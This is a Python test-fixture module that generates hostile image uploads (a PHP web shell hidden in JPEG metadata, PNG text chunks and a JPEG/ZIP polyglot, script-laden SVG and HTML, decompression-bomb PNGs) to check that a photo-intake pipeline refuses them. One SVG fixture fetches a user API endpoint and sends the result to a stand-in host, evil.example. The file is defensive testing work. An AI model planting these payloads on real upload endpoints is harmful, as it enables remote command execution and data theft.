"""Hostile (and a few honest) upload files, made on the fly: no binary blob is committed.

Each refused file is a :class:`Hostile` with the file name and content type a browser would send
(both deliberately misleading where that is the attack) and the :class:`~vardlots.intake.photos.PhotoError`
key the pipeline must answer with. The web flow's browser tests can reuse :data:`REFUSED`.

Run ``python -m tests.intake.hostile DIR`` to write every file to DIR for trying them by hand.
"""

from __future__ import annotations

import functools
import io
import random
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from PIL import Image, ImageCms, ImageDraw
from PIL.PngImagePlugin import PngInfo

# A marker planted in every payload; it must never appear in anything stored.
MARKER = b"VARDLOTS-HOSTILE-PAYLOAD-7f3a"
PHP = b"<?php system($_GET['c']); /* " + MARKER + b" */ ?>"
HTML = b"<html><body><script>alert('" + MARKER + b"')</script></body></html>"


# --- honest pictures ------------------------------------------------------------------------


def noise_image(width: int, height: int, mode: str = "RGB", seed: int = 7) -> Image.Image:
    """Random pixels: they compress badly, so truncation really cuts into picture data."""
    bands = len(Image.new(mode, (1, 1)).getbands())
    rng = random.Random(seed)
    return Image.frombytes(mode, (width, height), rng.randbytes(width * height * bands))


def halves(width: int = 200, height: int = 100, left: str = "red", right: str = "blue") -> Image.Image:
    """Left half one colour, right half another: shows which way a photo was turned."""
    img = Image.new("RGB", (width, height), left)
    ImageDraw.Draw(img).rectangle((width // 2, 0, width, height), fill=right)
    return img


def encode(img: Image.Image, fmt: str, **params: object) -> bytes:
    out = io.BytesIO()
    img.save(out, format=fmt, **params)
    return out.getvalue()


def jpeg(width: int = 200, height: int = 150, **params: object) -> bytes:
    return encode(halves(width, height), "JPEG", quality=90, **params)


def png(width: int = 200, height: int = 150, **params: object) -> bytes:
    return encode(halves(width, height), "PNG", **params)


def exif_with_gps(orientation: int = 6) -> Image.Exif:
    """Camera EXIF with a GPS position (Karolinska, Solna), device and time, and an orientation."""
    exif = Image.Exif()
    exif[0x0112] = orientation  # Orientation
    exif[0x010F] = "VardlotsPhone"  # Make
    exif[0x0110] = "Model-" + MARKER.decode()  # Model
    exif[0x0132] = "2026:11:20 14:03:00"  # DateTime
    gps = exif.get_ifd(0x8825)
    gps[1] = "N"  # GPSLatitudeRef
    gps[2] = (59.0, 20.0, 54.0)  # GPSLatitude
    gps[3] = "E"  # GPSLongitudeRef
    gps[4] = (18.0, 1.0, 39.0)  # GPSLongitude
    return exif


def jpeg_with_gps(orientation: int = 6) -> bytes:
    """200 x 100, red left, blue right; EXIF says turn it 90° clockwise (orientation 6)."""
    return encode(halves(200, 100), "JPEG", quality=95, exif=exif_with_gps(orientation).tobytes())


def srgb_icc() -> bytes:
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB"))
    return bytes(profile.tobytes())


def jpeg_with_metadata() -> bytes:
    """HTML in a COM segment, XMP and IPTC (APP13) with the marker, and an ICC profile."""
    xmp = (b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
           b"<rdf:Description>" + HTML + b"</rdf:Description></rdf:RDF></x:xmpmeta>")
    data = encode(halves(200, 150), "JPEG", quality=90, comment=HTML, xmp=xmp, icc_profile=srgb_icc())
    iptc = b"Photoshop 3.0\x008BIM\x04\x04\x00\x00" + struct.pack(">I", len(PHP) + 5) + b"\x1c\x02\x78" + \
        struct.pack(">H", len(PHP)) + PHP
    app13 = b"\xff\xed" + struct.pack(">H", len(iptc) + 2) + iptc
    return data[:2] + app13 + data[2:]  # right after SOI


def zip_payload() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("shell.php", PHP)
        archive.writestr("index.html", HTML)
    return out.getvalue()


def polyglot_jpeg() -> bytes:
    """A valid JPEG with a ZIP archive (PHP and HTML inside) appended: opens as both."""
    return jpeg() + zip_payload()


def cmyk_jpeg() -> bytes:
    """Pure red in CMYK (0 % cyan, 100 % magenta, 100 % yellow, 0 % black)."""
    return encode(Image.new("CMYK", (120, 90), (0, 255, 255, 0)), "JPEG", quality=95)


def png_with_text_chunks() -> bytes:
    info = PngInfo()
    info.add_text("Comment", PHP.decode())  # tEXt
    info.add_text("Description", HTML.decode(), zip=True)  # zTXt
    info.add_itxt("XML:com.adobe.xmp", HTML.decode(), lang="sv", tkey="x")  # iTXt
    info.add_text("GPS", "59.3479 N, 18.0276 E " + MARKER.decode())
    return png(pnginfo=info) + b"\x00\x00\x00\x00tRAIL" + PHP  # and trailing data after IEND


def mpo() -> bytes:
    """A multi-picture JPEG as phone cameras write (a primary picture and a second one)."""
    return encode(halves(160, 120), "MPO", save_all=True, append_images=[Image.new("RGB", (160, 120), "green")])


def heic() -> bytes:
    """A HEIC photo; needs pillow-heif (its opener must be registered, as photos.py does)."""
    return encode(halves(160, 120), "HEIF", quality=90)


def png_16bit_grey(value: int = 32768) -> bytes:
    return encode(Image.new("I;16", (80, 80), value), "PNG")


def png_rgba_transparent() -> bytes:
    img = Image.new("RGBA", (80, 80), (0, 0, 0, 0))
    ImageDraw.Draw(img).rectangle((0, 0, 39, 79), fill=(0, 0, 255, 255))
    return encode(img, "PNG")


# --- hand-made PNGs that declare what they like ---------------------------------------------


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


@functools.cache
def png_declaring(width: int, height: int, *, bit_depth: int = 1, full: bool = True) -> bytes:
    """A greyscale PNG of ``width`` x ``height`` whose pixel data is all zeros, compressed.

    With ``full`` the IDAT really holds every row (a genuine bomb: tiny file, huge bitmap);
    otherwise just the first rows (a file that only *declares* the size).
    """
    row = b"\x00" * (1 + (width * bit_depth + 7) // 8)
    rows = height if full else min(height, 16)
    compressor = zlib.compressobj(9)
    parts = []
    block = 2000
    for start in range(0, rows, block):
        parts.append(compressor.compress(row * min(block, rows - start)))
    parts.append(compressor.flush())
    ihdr = struct.pack(">IIBBBBB", width, height, bit_depth, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", b"".join(parts)) + _chunk(b"IEND", b"")


# --- the refused files ----------------------------------------------------------------------


@dataclass(frozen=True)
class Hostile:
    name: str  # what the browser claims the file is called
    content_type: str  # what the browser claims it is
    make: Callable[[], bytes]
    key: str  # the PhotoError key the pipeline must answer with
    about: str

    @property
    def data(self) -> bytes:
        return self.make()


def _animated_gif() -> bytes:
    frames = [Image.new("P", (100, 100), i) for i in (1, 2, 3)]
    return encode(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=100, loop=0)


def _apng() -> bytes:
    frames = [halves(100, 100), halves(100, 100, "green", "yellow")]
    return encode(frames[0], "PNG", save_all=True, append_images=frames[1:], duration=100, loop=0)


def _svg() -> bytes:
    return (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="200" height="200" '
            b'onload="alert(1)"><script>fetch("/api/v1/me").then(r=>r.text()).then(t=>new Image().src='
            b'"https://evil.example/?"+t)</script><rect width="200" height="200" fill="red"/></svg>')


REFUSED: tuple[Hostile, ...] = (
    Hostile("empty.jpg", "image/jpeg", lambda: b"", "empty", "an empty file"),
    Hostile("random.jpg", "image/jpeg", lambda: random.Random(4).randbytes(4096), "not_an_image",
            "random bytes"),
    Hostile("page.jpg", "image/jpeg", lambda: b"<!DOCTYPE html>\n" + HTML, "not_an_image",
            "an HTML page named .jpg"),
    Hostile("shell.jpg", "image/jpeg", lambda: b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + PHP, "not_an_image",
            "a PHP payload behind a JPEG magic number"),
    Hostile("script.jpg", "image/jpeg", lambda: b"\xff\xd8\xff\xdb" + b"/*" + HTML + b"*/alert(1)//",
            "not_an_image", "JavaScript behind a JPEG magic number"),
    Hostile("cut.jpg", "image/jpeg", lambda: (d := encode(noise_image(300, 300), "JPEG"))[: len(d) // 2],
            "not_an_image", "a JPEG cut in half"),
    Hostile("cut.png", "image/png", lambda: (d := encode(noise_image(300, 300), "PNG"))[: len(d) // 2],
            "not_an_image", "a PNG cut in half"),
    Hostile("bomb.png", "image/png", lambda: png_declaring(50_000, 50_000), "too_many_pixels",
            "a decompression bomb: 50000 x 50000 pixels in a few hundred kB"),
    Hostile("declares.png", "image/png", lambda: png_declaring(50_000, 50_000, full=False), "too_many_pixels",
            "a PNG that declares 50000 x 50000 and holds a few rows"),
    Hostile("big.png", "image/png", lambda: png_declaring(12_000, 12_000), "too_many_pixels",
            "144 megapixels (above Pillow's own warning level)"),
    Hostile("49mp.png", "image/png", lambda: png_declaring(7_000, 7_000), "too_many_pixels",
            "49 megapixels (below Pillow's guard, above ours)"),
    Hostile("strip.png", "image/png", lambda: png_declaring(13_000, 100), "dimensions_too_large",
            "13000 pixels wide"),
    Hostile("huge.jpg", "image/jpeg", lambda: jpeg() + b"\x00" * (10 * 1024 * 1024), "too_large",
            "a valid JPEG padded past 10 MB"),
    Hostile("anim.gif", "image/gif", _animated_gif, "unsupported_format", "an animated GIF"),
    Hostile("still.gif", "image/jpeg", lambda: encode(Image.new("P", (100, 100), 3), "GIF"),
            "unsupported_format", "a GIF claiming to be a JPEG"),
    Hostile("anim.png", "image/png", _apng, "animated", "an animated PNG (APNG)"),
    Hostile("image.svg", "image/svg+xml", _svg, "unsupported_format", "an SVG with script"),
    Hostile("svg.jpg", "image/jpeg", lambda: _svg().split(b"\n", 1)[1], "unsupported_format",
            "an SVG without XML declaration named .jpg"),
    Hostile("doc.pdf", "application/pdf", lambda: encode(halves(), "PDF"), "unsupported_format", "a PDF"),
    Hostile("scan.tif", "image/tiff", lambda: encode(halves(), "TIFF"), "unsupported_format", "a TIFF"),
    Hostile("photo.webp", "image/webp", lambda: encode(halves(), "WEBP"), "unsupported_format", "a WebP"),
    Hostile("paint.bmp", "image/bmp", lambda: encode(halves(), "BMP"), "unsupported_format", "a BMP"),
    Hostile("dot.png", "image/png", lambda: encode(Image.new("RGB", (1, 1), "red"), "PNG"), "too_small",
            "a 1 x 1 image"),
    Hostile("thin.jpg", "image/jpeg", lambda: jpeg(400, 20), "too_small", "400 x 20 pixels"),
    Hostile("badcrc.png", "image/png", lambda: (d := png())[:40] + bytes([d[40] ^ 0xFF]) + d[41:],
            "not_an_image", "a PNG with a damaged chunk"),
)


def write_all(directory: Path) -> None:
    directory.mkdir(parents=True, exist_ok=True)
    for item in REFUSED:
        (directory / f"{item.key}--{item.name}").write_bytes(item.data)
    for name, make in (("gps.jpg", jpeg_with_gps), ("polyglot.jpg", polyglot_jpeg),
                       ("comment.jpg", jpeg_with_metadata), ("text.png", png_with_text_chunks),
                       ("cmyk.jpg", cmyk_jpeg)):
        (directory / f"accepted--{name}").write_bytes(make())


if __name__ == "__main__":
    write_all(Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-uploads"))
